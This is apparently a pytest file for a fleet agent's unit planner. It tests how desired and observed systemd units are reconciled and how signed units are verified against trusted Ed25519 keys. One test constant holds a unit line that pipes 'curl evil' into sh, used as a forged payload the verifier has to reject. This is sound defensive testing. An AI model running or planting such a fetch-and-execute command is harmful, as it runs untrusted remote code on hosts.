"""The agent's plan_actions(desired, observed) and plan(desired, observed, trusted) as plain
table tests."""

from __future__ import annotations

import json
import threading

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from fleetpy.agent_plan import DesiredUnit, plan, plan_actions, select_globals
from fleetpy.model.records import ScheduleEntry, UnitState
from fleetpy.states import DesiredState
from fleetpy.unitfile.signing import Signer, TrustedKey, TrustedKeys, key_id
from fleetpy.unitfile.unit import content_hash
from fleetpy.unitmanager import (
    ObservedUnit,
    RemoveUnit,
    SimulatedUnitManager,
    StartUnit,
    StopUnit,
    WriteUnit,
)


def want(name: str, desired: str = "launched", digest: str = "h1") -> DesiredUnit:
    return DesiredUnit(name, digest, DesiredState(desired), f"text-{digest}")


def seen(
    name: str, active: str = "inactive", launched: bool = False, digest: str = "h1"
) -> ObservedUnit:
    sub = {"active": "running", "failed": "failed"}.get(active, "dead")
    return ObservedUnit(name, digest, "loaded", active, sub, launched)


CASES = [
    (
        "new launched unit is written then started",
        [want("a")],
        [],
        [WriteUnit("a", "h1", "text-h1"), StartUnit("a")],
    ),
    (
        "new loaded unit is only written",
        [want("a", "loaded")],
        [],
        [WriteUnit("a", "h1", "text-h1")],
    ),
    ("running unit that should run: nothing", [want("a")], [seen("a", "active", True)], []),
    ("adopted running unit: nothing", [want("a")], [seen("a", "active", True)], []),
    ("loaded unit to launch is started", [want("a")], [seen("a")], [StartUnit("a")]),
    (
        "launched unit to load is stopped",
        [want("a", "loaded")],
        [seen("a", "active", True)],
        [StopUnit("a")],
    ),
    ("failed unit is not restarted by the agent", [want("a")], [seen("a", "failed", True)], []),
    (
        "unit no longer placed is stopped then removed",
        [],
        [seen("a", "active", True)],
        [StopUnit("a"), RemoveUnit("a")],
    ),
    ("stopped unit no longer placed is just removed", [], [seen("a")], [RemoveUnit("a")]),
    (
        "changed content: stop, rewrite, start",
        [want("a", digest="h2")],
        [seen("a", "active", True)],
        [StopUnit("a"), WriteUnit("a", "h2", "text-h2"), StartUnit("a")],
    ),
    (
        "stops before removals before writes before starts",
        [want("b")],
        [seen("a", "active", True)],
        [StopUnit("a"), RemoveUnit("a"), WriteUnit("b", "h1", "text-h1"), StartUnit("b")],
    ),
]


@pytest.mark.parametrize(
    "desired, observed, expected", [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_plan(
    desired: list[DesiredUnit], observed: list[ObservedUnit], expected: list[object]
) -> None:
    assert plan_actions({d.name: d for d in desired}, {o.name: o for o in observed}) == expected


def test_plan_is_idempotent_after_execution() -> None:
    manager = SimulatedUnitManager()
    desired = {"a": want("a"), "b": want("b", "loaded")}
    manager.execute(plan_actions(desired, manager.observe()))
    assert plan_actions(desired, manager.observe()) == []


def test_simulated_host_reports_start_jobs_as_systemd_does() -> None:
    """The simulated host's starts end like systemd's start jobs, and the agent reports
    how (a state's `job`, which a blocking start waits for): pending while it starts,
    done once active, failed for a unit that fails to start; cleared by a stop."""
    manager = SimulatedUnitManager(start_seconds=0.2)
    changed = threading.Event()
    manager.set_listener(lambda unit: changed.set())
    manager.execute(
        [
            WriteUnit("a.service", "h1", "[Service]\nExecStart=/bin/sleep 1000\n"),
            WriteUnit("f.service", "h2", "[Service]\nExecStart=/bin/false\n"),
            StartUnit("a.service"),
            StartUnit("f.service"),
        ]
    )
    jobs = {n: (u.active, u.job) for n, u in manager.observe().items()}
    assert jobs == {"a.service": ("activating", "pending"), "f.service": ("failed", "failed")}
    assert changed.wait(5)
    state = manager.observe()["a.service"].state("m1")
    assert (state.active, state.job) == ("active", "done")
    assert UnitState.from_json("a.service", "m1", state.to_json().encode()) == state
    manager.execute([StopUnit("a.service")])
    state = manager.observe()["a.service"].state("m1")
    assert (state.active, state.job) == ("inactive", "")
    assert "job" not in json.loads(state.to_json())  # states without one stay as they were


def test_globals_that_conflict_with_each_other_do_not_both_run() -> None:
    a = ScheduleEntry(
        "a.service",
        "h",
        DesiredState.LAUNCHED,
        "[Service]\nExecStart=/bin/true\n\n[X-Fleet]\nGlobal=true\nConflicts=b.service\n",
    )
    b = ScheduleEntry(
        "b.service",
        "h",
        DesiredState.LAUNCHED,
        "[Service]\nExecStart=/bin/true\n\n[X-Fleet]\nGlobal=true\n",
    )
    assert list(select_globals({"a.service": a, "b.service": b}, {}, {})) == ["a.service"]


# ----------------------------------------------------------------------------- signed units
# plan(desired, observed, trusted): with trusted keys, what may run and what is refused.


def _key(name: str) -> Signer:
    private = Ed25519PrivateKey.generate()
    return Signer(name, key_id(private.public_key()), private)


OPS, NEXT, STRANGER = _key("ops"), _key("next"), _key("stranger")
TRUSTED = TrustedKeys(
    {s.key_id: TrustedKey(s.key_id, s.private.public_key(), s.name) for s in (OPS, NEXT)}
)
GOOD = "[Service]\nExecStart=/bin/sleep 1000\n"
EVIL = "[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n"


def unit(
    name: str = "a.service",
    text: str = GOOD,
    signer: Signer | None = OPS,
    signed_name: str | None = None,
    signed_text: str | None = None,
    listed_text: str | None = None,
) -> DesiredUnit:
    """A desired unit whose record says hash(listed_text or text), with `signer`'s
    signature of (signed_name or name, hash(signed_text or listed_text or text))."""
    digest = content_hash(listed_text or text)
    signed = content_hash(signed_text) if signed_text else digest
    signature = None if signer is None else signer.sign(signed_name or name, signed)
    return DesiredUnit(name, digest, DesiredState.LAUNCHED, text, signature)


def running(name: str = "a.service", text: str = GOOD) -> ObservedUnit:
    return ObservedUnit(name, content_hash(text), "loaded", "active", "running", True)


GOOD_HASH, EVIL_HASH = content_hash(GOOD), content_hash(EVIL)
SIGNED_CASES = [
    (
        "signed by a trusted key: written and started",
        [unit()],
        [],
        [WriteUnit("a.service", GOOD_HASH, GOOD), StartUnit("a.service")],
        {},
    ),
    (
        "two trusted keys at once (rotation): both run",
        [unit(), unit("b.service", signer=NEXT)],
        [running(), running("b.service")],
        [],
        {},
    ),
    ("unsigned: refused, nothing written", [unit(signer=None)], [], [], {"a.service": "unsigned"}),
    (
        "signed by a key this machine does not trust",
        [unit(signer=STRANGER)],
        [],
        [],
        {"a.service": "untrusted-key"},
    ),
    (
        "another unit's signature moved onto this one",
        [unit(signed_name="b.service")],
        [],
        [],
        {"a.service": "wrong-signature"},
    ),
    (
        "forged record: new hash, the old signature",
        [unit(text=EVIL, listed_text=EVIL, signed_text=GOOD)],
        [],
        [],
        {"a.service": "wrong-signature"},
    ),
    (
        "signed hash, swapped text",
        [
            DesiredUnit(
                "a.service",
                GOOD_HASH,
                DesiredState.LAUNCHED,
                EVIL,
                OPS.sign("a.service", GOOD_HASH),
            )
        ],
        [],
        [],
        {"a.service": "content-mismatch"},
    ),
    (
        "a running unit whose record was replaced by a forged one is stopped and removed",
        [unit(text=EVIL, signer=None)],
        [running()],
        [StopUnit("a.service"), RemoveUnit("a.service")],
        {"a.service": "unsigned"},
    ),
    (
        "a refused unit does not stop the others",
        [unit(), unit("b.service", signer=STRANGER)],
        [running()],
        [],
        {"b.service": "untrusted-key"},
    ),
]


@pytest.mark.parametrize(
    "desired, observed, expected, rejected",
    [c[1:] for c in SIGNED_CASES],
    ids=[c[0] for c in SIGNED_CASES],
)
def test_plan_with_trusted_keys(
    desired: list[DesiredUnit],
    observed: list[ObservedUnit],
    expected: list[object],
    rejected: dict[str, str],
) -> None:
    decided = plan({d.name: d for d in desired}, {o.name: o for o in observed}, TRUSTED)
    assert decided.actions == expected
    assert {name: verdict.reason for name, (_, verdict) in decided.rejected.items()} == rejected


def test_without_trusted_keys_nothing_is_verified() -> None:
    desired = {"a.service": unit(signer=None), "b.service": unit("b.service", signer=STRANGER)}
    decided = plan(desired, {})
    assert decided.rejected == {}
    assert decided.actions == plan_actions(desired, {})
    assert StartUnit("a.service") in decided.actions
